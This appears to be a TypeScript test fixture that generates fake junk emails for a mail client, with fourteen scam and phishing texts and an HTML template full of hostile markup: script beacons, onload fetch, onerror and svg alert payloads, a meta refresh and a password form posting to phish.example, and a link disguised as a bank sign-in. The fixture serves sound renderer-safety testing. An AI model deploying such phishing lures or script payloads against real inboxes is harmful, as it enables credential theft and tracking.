// Junk: loud, clumsy and full of things that must not run or load. Nothing in it leads anywhere real.

import { alternative, html, type Letter, multipart, text } from '../letter.ts';
import { type Draft, type Life, messageId, moment } from '../life.ts';
import { ida } from '../people.ts';
import { pictureHost } from './markup.ts';

const words: readonly {
  readonly name: string;
  readonly address: string;
  readonly subject: string;
  readonly text: string;
}[] = [
  {
    name: 'PACKAGE CENTER',
    address: 'noreply@parcel-cost.example',
    subject: '⚠️ Your parcel is WAITING — pay 1,99 now',
    text: 'Dear customer ida, your packet can not delivered because the unpaid custom cost. Pay today or it will be return to the sender!!!',
  },
  {
    name: 'ida@example.org',
    address: 'support@mailbox-verify.example',
    subject: 'Your mailbox will be closed in 24 hours',
    text: 'We detect that your quota has exceed. Kindly re-validate the password to keep the incoming messages.',
  },
  {
    name: 'Dr. Emmanuel B.',
    address: 'dr.emmanuel@confidential.example',
    subject: 'CONFIDENTIAL PROPOSAL',
    text: 'Compliments of the season. I am the auditor of a bank which I can not name, and I write you because of your good profile. The sum is nine million.',
  },
  {
    name: 'Luxury Watches',
    address: 'deals@time-piece.example',
    subject: 'R0LEXX replicas -85% today onIy',
    text: 'Nobody will know the different. Free shipping, free box, free certificate.',
  },
  {
    name: 'Crypto Academy',
    address: 'win@coin-academy.example',
    subject: 'Ida, she made 4.312 from her kitchen (VIDEO)',
    text: 'The method that banks do not want that you know. Only 7 places left.',
  },
  {
    name: 'SEO Team',
    address: 'rank@page-one.example',
    subject: 'Re: your website',
    text: 'Hi, I was going through your website and found many errors. We can bring it to page 1 of all searchers with 500 backlinks.',
  },
  {
    name: 'Casino Royal',
    address: 'bonus@spin.example',
    subject: '250 FREE SPINS 🎰🎰🎰',
    text: 'Your bonus code is inside. Offer ends at midnight. Offer ends every midnight.',
  },
  {
    name: '',
    address: 'x8831@random-host.example',
    subject: 'hi',
    text: 'hi dear how are you i saw your picture and i want to know you more',
  },
  {
    name: 'Invoice Dept',
    address: 'invoice@billing-center.example',
    subject: 'FINAL NOTICE invoice #992811',
    text: 'Open the document to see the amount and avoid the court.',
  },
  {
    name: 'Miracle Berry',
    address: 'news@berry-diet.example',
    subject: 'Doctors hate this berry',
    text: 'Lose eleven kilo without moving. As seen on no television.',
  },
  {
    name: 'Lottery Int.',
    address: 'claims@euro-lotto.example',
    subject: 'You have W O N',
    text: 'Your address was drawn out of 40 million. To claim, send your name, age, occupation and a photo of your passport.',
  },
  {
    name: 'Solar Offer',
    address: 'sun@solar-now.example',
    subject: 'Your roof was selected',
    text: 'The government pays all. Our advisor is in your street on Thursday.',
  },
  {
    name: 'Admin',
    address: 'admin@mail-desk.example',
    subject: 'Undelivered mails (14)',
    text: 'You have 14 pending mails. Release to inbox, or delete.',
  },
  {
    name: 'Pharma Direct',
    address: 'shop@pills.example',
    subject: 'V-i-t-a-m-i-n-s without recipe',
    text: 'Cheap and discreet, to your door.',
  },
];

/** Markup as junk really has it: script, form, meta refresh, a link that lies, a style that would cover the page. */
const hostile = (
  said: string,
  path: string,
): string => `<html><head><meta http-equiv="refresh" content="0;url=https://phish.example/${path}"><style>body{background:#fff}.x{position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999}@import url("${pictureHost}/${path}.css");</style><script>document.title='owned';new Image().src='${pictureHost}/script-${path}.gif'</script></head>
<body onload="fetch('${pictureHost}/onload-${path}')" background="${pictureHost}/bg-${path}.png">
<center><font size="6" color="red"><b><blink>${said}</blink></b></font>
<p><a href="https://phish.example/${path}" style="color:blue">https://www.sparbanken-vast.example/sign-in</a></p>
<p><a href="javascript:alert(document.domain)">Click here</a></p>
<form action="https://phish.example/${path}" method="post"><input type="password" name="p" placeholder="Password"><input type="submit" value="Continue"></form>
<img src="${pictureHost}/${path}.png" onerror="alert(1)" width="400" height="120"><svg onload="alert(2)"></svg>
<iframe src="https://phish.example/frame"></iframe></center></body></html>`;

export const junkLetter = ({ random }: Life, index: number, at: number): Letter => {
  const { name, address, subject, text: said } = words[index % words.length]!;
  const path = random.hex(10);
  const shape = index % 3;
  return {
    from: [{ name, address }],
    to: shape === 1 ? [{ name: '', address: 'undisclosed@example.org' }] : [ida],
    subject,
    date: at,
    zone: random.pick([-480, 180, 330, 480]),
    messageId: messageId(random, address),
    headers: ['X-Spam-Flag: YES', `X-Spam-Score: ${random.whole(6, 24)}.${random.whole(0, 9)}`],
    body:
      shape === 0
        ? html(hostile(said, path))
        : shape === 1
          ? text(`${said}\n\nhttps://phish.example/${path}`)
          : multipart('mixed', [alternative(said, hostile(said, path))]),
  };
};

export const junkMail = (life: Life): Draft[] =>
  words.map(
    (_, index): Draft => ({
      mailbox: 'Junk',
      letter: junkLetter(life, index, moment(life, 0.4 + index * 1.9)),
      flags: index < 4 ? ['$Junk'] : ['\\Seen', '$Junk'],
    }),
  );
